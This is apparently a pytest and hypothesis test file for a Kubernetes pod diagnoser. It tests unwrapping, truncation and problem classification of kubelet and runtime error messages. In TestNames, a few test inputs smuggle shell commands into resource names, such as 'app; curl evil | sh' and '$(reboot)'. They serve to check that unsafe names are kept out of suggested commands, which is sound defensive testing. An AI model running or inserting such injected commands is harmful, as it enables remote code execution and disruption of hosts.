"""Messages of kubelets, runtimes, plug-ins and registries: unwrapped, bounded, understood.

The table `messages.yaml` holds messages as they are made; mutations of them must not change what
they are about, and no text at all may do harm.
"""

import re
from pathlib import Path
from string import Formatter
from typing import Any, Final

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from pod_diagnoser.diagnosis import messages
from pod_diagnoser.diagnosis.messages import Problem, fit, problem_of, unwrap
from pod_diagnoser.diagnosis.problem_rules import (
    NEXT_STEPS,
    PROBLEM_RULES,
    PULL_PATTERNS,
    UNSPECIFIC,
    ProblemKind,
)

LINE: Final = 138
"""Bytes of a line of an annotation that `kubectl describe pod` shows whole."""

ROWS: Final[list[dict[str, Any]]] = yaml.safe_load(
    Path(__file__).with_name("messages.yaml").read_text()
)
IDS: Final = [f"{number}-{row['by']}" for number, row in enumerate(ROWS)]
VOLUMES: Final = "/var/lib/kubelet/pods/5d2f1c44-9b1e-4a77-8c39-1f0e6b7a2d10/volumes"
KNOWN: Final = [row for row in ROWS if row["problem"]]

FIELDS: Final = {"node", "namespace", "pod", "container", "image"}
PLAUSIBLE: Final = {
    "node": "node gke-pool-1-7d9c",
    "namespace": "payments",
    "pod": "checkout-6c8f468b85-x2x7k",
    "container": "istio-proxy",
    "image": "ghcr.io/acme/checkout:1.4",
}


def kind_of(message: str) -> str | None:
    """Name the kind of problem of a message, or None."""
    problem = problem_of(message)
    return problem.kind if problem else None


class TestTableOfMessages:
    """What is said of real messages."""

    @pytest.mark.parametrize("row", ROWS, ids=IDS)
    def test_the_cause_is_what_remains(self, row: dict[str, Any]) -> None:
        """Unwrapping leaves the part that says what is wrong."""
        assert unwrap(row["message"]).text == row["text"]

    @pytest.mark.parametrize("row", ROWS, ids=IDS)
    def test_the_kind_of_problem_is_known(self, row: dict[str, Any]) -> None:
        """A message shows its kind of problem, or none."""
        assert kind_of(row["message"]) == row["problem"]

    @pytest.mark.parametrize("row", KNOWN, ids=[row["by"] for row in KNOWN])
    def test_the_end_of_a_cause_is_shown(self, row: dict[str, Any]) -> None:
        """A line shows the last words of the cause, at most 138 bytes."""
        text = row["text"]
        line = fit(text, LINE)
        assert len(line.encode()) <= LINE
        assert line.endswith(text[-30:].rpartition(" ")[2])

    def test_the_table_is_large_and_holds_most_kinds(self) -> None:
        """Most kinds of problems have a real message."""
        missing = set(ProblemKind) - {row["problem"] for row in ROWS}
        assert len(ROWS) >= 150
        assert not missing


class TestNames:
    """Names that a message gives are kept, and only those fit for a command stand in a step."""

    @pytest.mark.parametrize(
        ("message", "names"),
        [
            (
                'MountVolume.SetUp failed for volume "tls" : secret "web-tls" not found',
                ('volume "tls"',),
            ),
            (
                'failed to setup network for sandbox "a": plugin type="calico" failed (add): no',
                ('network plug-in "calico"',),
            ),
            (
                f'error mounting "{VOLUMES}/x~csi/pvc-1/mount" to rootfs at "/data": refused',
                ('volume "pvc-1"', 'mount at "/data"'),
            ),
            ("context deadline exceeded", ()),
        ],
    )
    def test_names_of_layers_are_kept(self, message: str, names: tuple[str, ...]) -> None:
        """Volume, plug-in and mount path survive the layers that named them."""
        assert unwrap(message).names == names

    @pytest.mark.parametrize(
        ("message", "name"),
        [
            ('configmap "app-settings" not found', "app-settings"),
            ('secrets "web-tls" not found', "web-tls"),
            ("couldn't find key DB_HOST in ConfigMap shop/app", "DB_HOST"),
            ("PVC shop/data-0 has non-bound phase (Pending)", "data-0"),
            ('no runtime for "kata" is configured', "kata"),
            ("driver name a.b.io not found in the list of registered CSI drivers", "a.b.io"),
            ('plugin type="calico" failed (add): no', "calico"),
            ('configmap "app; curl evil | sh" not found', None),
            ('configmap "APP" not found', ""),
            ('no runtime for "$(reboot)" is configured', ""),
        ],
    )
    def test_a_name_in_a_step_is_fit_for_a_command(self, message: str, name: str | None) -> None:
        """A name is a DNS name or a key, or is left out."""
        problem = problem_of(message)
        assert (problem.name if problem else None) == name
        if problem and name:
            assert name in problem.next_step

    def test_names_cannot_imitate_a_problem(self) -> None:
        """What a Pod's owner may name freely proves nothing."""
        for name in ("toomanyrequests", "x509", "manifest-unknown", "x/executable-file-not-found"):
            message = f'Failed to pull image "{name}:1": rpc error: code = Unknown desc = {name}'
            assert problem_of(message) is None

    def test_a_command_cannot_imitate_a_problem(self) -> None:
        """The command of a container stands between quotation marks, and is not looked at."""
        message = 'exec: "no space left on device": executable file not found in $PATH'
        assert kind_of(message) == ProblemKind.EXECUTABLE_NOT_FOUND


class TestUnwrap:
    """Layers of any depth, identifiers and repetitions."""

    def test_identifiers_are_short_but_names_of_volumes_are_whole(self) -> None:
        """64 digits become 12, a uid 8; the uid in `pvc-…` is needed for kubectl."""
        uid = "5d2f1c44-9b1e-4a77-8c39-1f0e6b7a2d10"
        text = f"open {'ab' * 32} of pod{uid} in pvc-{uid}: gone"
        assert unwrap(text).text == f"open {'ab' * 6} of pod5d2f1c44 in pvc-{uid}: gone"

    def test_a_clause_stands_once(self) -> None:
        """What several layers repeat is said once."""
        assert unwrap("a thing broke: no luck: a thing broke: no luck").text == (
            "a thing broke: no luck"
        )

    def test_only_the_last_error_of_a_log_is_taken(self) -> None:
        """Warnings before the error of a runtime are left out."""
        message = (
            'container create failed: time="T" level=warning msg="old cgroup"\n'
            'time="T" level=error msg="exec: \\"app\\": permission denied"\n'
        )
        assert unwrap(message).text == 'exec: "app": permission denied'

    @pytest.mark.parametrize(
        ("message", "text"),
        [
            ("", ""),
            (" : ", ""),
            ("Error: ", "Error"),
            ("runc create failed:", "runc create failed"),
        ],
    )
    def test_a_message_without_a_cause(self, message: str, text: str) -> None:
        """What consists of layers only is not lost."""
        assert unwrap(message).text == text

    @given(st.text())
    def test_any_text_is_unwrapped_to_one_line_and_only_once(self, text: str) -> None:
        """Total; its result is left as it is."""
        once = unwrap(text).text
        assert unwrap(once).text == once
        assert once.isprintable()

    @given(
        st.lists(st.sampled_from([piece for row in ROWS for piece in row["message"].split(" ")]))
    )
    def test_words_of_messages_in_any_order(self, words: list[str]) -> None:
        """Total and idempotent on what looks like messages."""
        once = unwrap(" ".join(words)).text
        assert unwrap(once).text == once


class TestFit:
    """The middle is left out, never the end."""

    def test_the_middle_is_left_out(self) -> None:
        """Start and end stay, words whole."""
        text = 'volume "data": ' + "a long way round " * 20 + "permission denied"
        line = fit(text, 60)
        assert line.startswith('volume "data": ')
        assert line.endswith("permission denied")
        assert " … " in line

    def test_a_quoted_name_stays_whole(self) -> None:
        """No cut between quotation marks where there is room."""
        text = "x" * 200 + ' said "one two three" and ended'
        assert fit(text, 40).endswith('said "one two three" and ended')
        assert '"' not in fit(text, 20)

    def test_one_long_word_keeps_its_end(self) -> None:
        """A single long word is cut at its start."""
        assert fit("a" * 100 + "end", 10) == "…" + "aaaa" + "end"

    @given(st.text(), st.integers(min_value=0, max_value=300))
    def test_never_longer_than_its_limit(self, text: str, limit: int) -> None:
        """Bounded in bytes, and idempotent."""
        line = fit(text, limit)
        assert len(line.encode()) <= max(limit, 0)
        assert fit(line, limit) == line

    def test_a_flood_is_bounded_once(self) -> None:
        """A text that is too long to be read is idempotent too, whatever the limit."""
        once = fit("word " * 20_000, 1_000_000)
        assert len(once) <= 4096
        assert fit(once, 1_000_000) == once

    @given(st.text(min_size=1), st.integers(min_value=8, max_value=300))
    def test_the_end_is_kept(self, text: str, limit: int) -> None:
        """What stands after the ellipsis is the end of the text."""
        whole = fit(text, 1_000_000)
        line = fit(text, limit)
        if line != whole:
            tail = line.rpartition("…")[2].strip()
            assert tail
            assert whole.endswith(tail)

    @given(st.lists(st.text("abc", min_size=1, max_size=9), min_size=30))
    def test_words_are_kept_whole(self, words: list[str]) -> None:
        """Words that fit are not cut."""
        assert set(fit(" ".join(words), 50).split()) <= {*words, "…"}


class TestProblems:
    """The table of problems and what to do about them."""

    def test_every_kind_has_a_row_and_a_step(self) -> None:
        """No kind without proof, none without a next step."""
        assert {rule.kind for rule in PROBLEM_RULES} == set(ProblemKind)
        assert set(NEXT_STEPS) == set(ProblemKind)
        assert set(ProblemKind) >= UNSPECIFIC

    @pytest.mark.parametrize("rule", PROBLEM_RULES, ids=lambda rule: rule.pattern)
    def test_a_pattern_is_written_as_messages_are_seen(self, rule: Any) -> None:
        """Lower-case, single spaces, a word to be looked up, a source; found by its own words."""
        assert rule.pattern == rule.pattern.lower()
        assert "  " not in rule.pattern
        assert re.search(r"[a-z0-9]", rule.pattern)
        assert rule.source
        text = f" {rule.pattern} "
        found = messages._rule_for(f"{PULL_PATTERNS[0]} {text}" if rule.pull_only else text)
        assert found is not None

    def test_no_row_is_hidden_by_the_index(self) -> None:
        """Looking rows up by a word finds what going through all of them finds."""
        for row in KNOWN:
            text = messages._without_names(messages._opened(row["message"]))
            about_pull = any(pattern in text for pattern in PULL_PATTERNS)
            first = next(
                (
                    rule
                    for rule in PROBLEM_RULES
                    if (about_pull or not rule.pull_only)
                    and messages._occurs(tuple(rule.pattern.split(" … ")), text)
                ),
                None,
            )
            assert messages._rule_for(text) == first

    @pytest.mark.parametrize("kind", ProblemKind)
    def test_a_step_fits_on_a_line(self, kind: ProblemKind) -> None:
        """With usual names a step is shown whole; it has no other fields than those promised."""
        for name in ("", "app-settings"):
            step = Problem(kind, name, "").next_step
            assert {field for _, field, _, _ in Formatter().parse(step) if field} <= FIELDS
            assert len(step.format(**PLAUSIBLE).encode()) <= LINE

    def test_an_echo_is_not_specific(self) -> None:
        """A time-out of volumes gives way to the message that says why."""
        echo = problem_of("Unable to attach or mount volumes: unmounted volumes=[a]: timed out")
        cause = problem_of('MountVolume.SetUp failed for volume "a" : secret "b" not found')
        assert echo is not None
        assert cause is not None
        assert not echo.is_specific
        assert cause.is_specific

    @given(st.text())
    def test_any_text_is_looked_at(self, text: str) -> None:
        """Total; most texts show nothing."""
        assert problem_of(text) is None or isinstance(problem_of(text), Problem)


OUTER_LAYERS: Final = (
    "Error: {}",
    "rpc error: code = Unknown desc = {}",
    "failed to create containerd task: failed to create shim task: {}",
    "OCI runtime create failed: {}: unknown",
    "runc create failed: {}",
    "unable to start container process: {}",
    "Error response from daemon: {}",
    "{}: unknown",
    "{}\r\n",
    "\n{}\n",
)


class TestMutations:
    """The same problem in other clothes is the same problem."""

    @given(st.sampled_from(KNOWN), st.lists(st.sampled_from(OUTER_LAYERS), max_size=5))
    def test_more_layers_in_any_order(self, row: dict[str, Any], layers: list[str]) -> None:
        """Layers around a message change neither its problem nor its cause."""
        message = row["message"]
        for layer in layers:
            message = layer.replace("{}", message)
        assert kind_of(message) == row["problem"]
        assert unwrap(message).text == row["text"]

    @given(
        st.sampled_from(KNOWN),
        st.text("0123456789abcdef", min_size=64, max_size=64),
        st.uuids(),
    )
    def test_other_identifiers(self, row: dict[str, Any], digits: str, uid: Any) -> None:
        """Identifiers mean nothing."""
        message = re.sub(r"\b[0-9a-f]{64}\b", digits, row["message"])
        message = re.sub(r"5d2f1c44-9b1e-4a77-8c39-1f0e6b7a2d10", str(uid), message)
        assert kind_of(message) == row["problem"]

    @given(st.sampled_from(KNOWN), st.sampled_from(["\r\n", "\n", "  ", "\t", " \u200b"]))
    def test_other_white_space(self, row: dict[str, Any], space: str) -> None:
        """Line breaks of Windows, tabs and invisible characters mean nothing."""
        message = row["message"].replace(" ", space)
        assert kind_of(message) == row["problem"]
        assert unwrap(message).text == row["text"]

    @given(st.sampled_from(KNOWN), st.integers(min_value=800, max_value=6000))
    def test_a_message_cut_in_its_middle(self, row: dict[str, Any], noise: int) -> None:
        """A long message whose middle was left out, for an Event of 1 KB, has its problem still."""
        head, gap, tail = row["message"].partition(": ")
        message = head + gap + "x" * noise + " ... " + tail
        assert kind_of(message) == row["problem"] or not gap

    @given(st.sampled_from(KNOWN))
    def test_a_message_of_an_event(self, row: dict[str, Any]) -> None:
        """What fits into an Event shows the same problem."""
        assert kind_of(fit(row["message"], 1024)) == row["problem"]

    @pytest.mark.parametrize("row", KNOWN, ids=[row["by"] for row in KNOWN])
    def test_a_message_behind_a_flood(self, row: dict[str, Any]) -> None:
        """Of a text of 100 KB start and end are read."""
        assert kind_of("flood " * 20_000 + row["message"]) == row["problem"]
        assert kind_of(row["message"] + " flood" * 20_000) == row["problem"]
